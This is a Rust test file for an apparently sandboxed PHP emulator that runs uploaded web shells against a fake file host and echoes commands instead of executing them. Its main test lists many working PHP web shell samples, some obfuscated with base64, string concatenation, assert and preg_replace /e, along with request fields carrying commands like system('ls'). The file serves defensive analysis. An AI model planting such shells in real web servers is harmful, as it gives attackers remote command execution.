use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;

/// A machine with a few files, on which a command prints itself.
#[derive(Default)]
struct Files(BTreeMap<Vec<u8>, Vec<u8>>);

impl Host for Files {
    fn grant(&mut self, wish: &Wish) -> Given {
        match wish {
            Wish::Read(path) => Given::Bytes(self.0.get(path).cloned()),
            Wish::Write { path, content, append } => {
                let file = self.0.entry(path.clone()).or_default();
                if !append {
                    file.clear();
                }
                file.extend_from_slice(content);
                Given::Done(true)
            }
            Wish::Stat(path) => Given::Facts(self.0.get(path).map(|content| FileFacts {
                is_folder: false,
                size: content.len() as u64,
                mode: 0o100_644,
                owner: 33,
                modified: 0,
            })),
            Wish::List(_) => Given::Names(Some(self.0.keys().cloned().collect())),
            _ => Given::Done(true),
        }
    }
}

fn request() -> Request {
    let pair = |name: &str, value: &str| (name.into(), value.into());
    Request {
        method: "POST".to_owned(),
        target: b"/uploads/x.php?cmd=id".to_vec(),
        query: vec![pair("cmd", "id"), pair("0", "whoami")],
        form: vec![pair("pass", "system('ls');"), pair("z0", "ZWNobyAnaGknOw==")],
        script: b"/var/www/html/uploads/x.php".to_vec(),
        php: "8.2.29",
        ..Request::default()
    }
}

/// What a script prints, each command printing its own name in brackets.
fn prints(script: &str) -> String {
    let (mut journal, mut files) = (Journal::new(), Files::default());
    for _ in 0..20 {
        match run(script.as_bytes(), false, &request(), &mut journal, &mut files) {
            Ok(Ran::Ended(printed)) => {
                return String::from_utf8_lossy(&printed.output).into_owned();
            }
            Ok(Ran::Wants(command)) => {
                journal.push(Given::Bytes(Some([b"[", &command[..], b"]\n"].concat())));
            }
            Err(Unread) => return "unread".to_owned(),
        }
    }
    "no end".to_owned()
}

#[test]
fn shells_that_visitors_upload_do_what_they_say() {
    for (script, output) in [
        ("<?php system($_GET['cmd']); ?>", "[id]\n"),
        ("<?php @eval($_POST['pass']);?>", "[ls]\n"),
        ("<?=`$_GET[0]`?>", "[whoami]\n"),
        ("GIF89a;<?php echo shell_exec($_REQUEST[\"cmd\"]); ?>", "GIF89a;[id]\n"),
        (
            "<?php if(isset($_REQUEST['cmd'])){ echo \"<pre>\"; $cmd = ($_REQUEST['cmd']); system($cmd); echo \"</pre>\"; die; }?>",
            "<pre>[id]\n</pre>",
        ),
        ("<?php eval(base64_decode($_POST['z0']));", "hi"),
        ("<?php $f='sy'.'stem'; $f($_GET['cmd']);", "[id]\n"),
        ("<?php echo md5('a'); print(6*7); die('x');", "0cc175b9c0f1b6a831c399e26977266142x"),
        ("<?php $a=create_function('$x','return $x.\"!\";'); echo $a('y');", "y!"),
        ("<?php function f($a){ return strrev($a); } echo f('olleh'); ?> end", "hello end"),
        (
            "<?php file_put_contents('s.php','<?php echo 5;'); include 's.php'; echo file_get_contents('s.php');",
            "5<?php echo 5;",
        ),
        (
            "<?php exec('id',$o); print_r($o); foreach($o as $k=>$v){echo \"$k:$v\\n\";}",
            "Array\n(\n    [0] => [id]\n)\n0:[id]\n",
        ),
        ("<?php $x=array('a'=>1,'b'=>array(2,3)); echo $x['a'].$x['b'][1].count($x['b']);", "132"),
        (
            "<?php for($i=0;$i<3;$i++){ if($i==1) continue; echo $i; } while(true){ break; } echo 'd';",
            "02d",
        ),
        (
            "<?php $h=popen('uptime','r'); while(!feof($h)) echo fgets($h); pclose($h);",
            "[uptime]\n",
        ),
        (
            "<?php echo str_rot13('flfgrz'),gzinflate(base64_decode('S0wsTgEA')),chr(65),ord('A');",
            "systemabcA65".replace("abc", "\0").as_str(),
        ),
        ("<?php switch($_GET['cmd']){case 'id': echo 'one'; break; default: echo 'two';}", "one"),
        (
            "<?php echo ('a'^'b')===chr(3)?'xor':'no'; echo \"{$_GET['cmd']} ${'_GET'}\";",
            "xorid Array",
        ),
        ("<?php call_user_func('assert', $_POST['pass']);", "[ls]\n"),
        (
            "<?php $c=function($a) use (&$b){ return $a*2; }; echo $c(4), array_sum(array_map(fn($x)=>$x+1,[1,2]));",
            "85",
        ),
        ("<?php @preg_replace('/x/e', $_POST['pass'], 'x');", "[ls]\n"),
        ("<?php class A { function b() { return 1; } } echo 'after';", "after"),
        ("no script at all", "no script at all"),
        ("<?php // nothing", ""),
    ] {
        let got = prints(script);
        if script.contains("gzinflate") {
            assert!(got.starts_with("system") && got.ends_with("A65"), "{got}");
        } else {
            assert_eq!(got, output, "{script}");
        }
    }
}

#[test]
fn what_is_no_php_is_unread() {
    for script in ["<?php echo 'a", "<?php if(", "<?php )(", "<?php $x = ;"] {
        assert_eq!(prints(script), "unread", "{script}");
    }
}

#[test]
fn a_script_without_an_end_is_stopped() {
    for script in [
        "<?php while(1){}",
        "<?php function f(){ f(); } f();",
        "<?php $a='x'; while(1){ $a.=$a; }",
        "<?php for(;;) echo 'aaaaaaaaaaaaaaaa';",
        "<?php eval($x='eval($x);');",
        "<?php while(1) system('id');",
        "<?php $a=[]; while(1) $a[]=$a;",
    ] {
        let got = prints(script);
        assert!(got.len() <= 64 * 1024, "{script}");
    }
    let deep = format!("<?php echo {}1{};", "(".repeat(5_000), ")".repeat(5_000));
    assert_eq!(prints(&deep), "unread");
    let long = format!("<?php echo {}'';", "'a'.".repeat(2_000));
    assert_eq!(prints(&long).len(), 2_000);
}

proptest! {
    #[test]
    fn no_script_breaks_the_reading(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        fuzz(&bytes);
    }

    #[test]
    fn no_run_of_words_breaks_the_reading(words in prop::collection::vec(prop_oneof![
        Just("<?php "), Just("?>"), Just("$a"), Just("$_GET"), Just("["), Just("]"), Just("("), Just(")"), Just("{"),
        Just("}"), Just(";"), Just("="), Just("."), Just("'x'"), Just("\"a$b\""), Just("1"), Just("echo "), Just("system("),
        Just("eval("), Just("if("), Just("else "), Just("while("), Just("for("), Just("foreach("), Just(" as "), Just("function "),
        Just("f"), Just(","), Just("=>"), Just("->"), Just("`id`"), Just("return "), Just("array("), Just("str_repeat("),
        Just("base64_decode("), Just("fn("), Just("?"), Just(":"), Just("&&"), Just("!"), Just("^"), Just("switch("), Just("case "),
    ], 0..60)) {
        fuzz(format!("<?php {}", words.concat()).as_bytes());
    }
}
